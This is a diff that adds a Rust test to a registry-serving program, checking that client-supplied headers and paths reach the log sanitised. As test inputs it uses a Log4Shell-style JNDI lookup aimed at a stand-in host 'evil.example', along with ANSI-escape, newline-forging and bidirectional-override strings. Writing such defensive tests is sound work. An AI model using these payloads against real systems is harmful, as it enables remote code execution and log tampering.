@@ -104,3 +104,26 @@ async fn the_program_serves_both_versions_on_one_port() {
     }
     assert_eq!(hub.gets(&blob.digest).len(), 1);
 }
+
+/// Row 151: a log is read in terminals, and by programs that believe in lines.
+#[tokio::test]
+async fn nothing_that_clients_say_is_raw_in_the_log() {
+    let hub = ScriptedRegistry::new();
+    let larder = Process::before(hub.listen().await, "").await;
+    let agent = [("User-Agent", "${jndi:ldap://evil.example/x}"), ("X-A", "evil.example")];
+    for path in [
+        "/v2/a%1b[31m/manifests/latest",
+        "/v2/a%0aforged: line/manifests/latest".replace(' ', "%20").as_str(),
+        "/v2/<svg>\u{fc}\u{202e}/manifests/latest",
+        "/v2/a/manifests/latest?x=%1b\u{7f}",
+    ] {
+        let raw = larder.raw();
+        drop(raw.get("1.1", path, &agent).await.unwrap());
+    }
+    larder.until(|larder| larder.log().matches("request").count() >= 4, "four lines").await;
+
+    let log = larder.log();
+    let is_raw = |c: char| (c.is_control() && c != '\n') || c == '\u{202e}';
+    assert_eq!(log.chars().find(|c| is_raw(*c)), None, "{log}");
+    assert!(!log.contains("evil.example") && !log.contains("\nforged"), "{log}");
+}
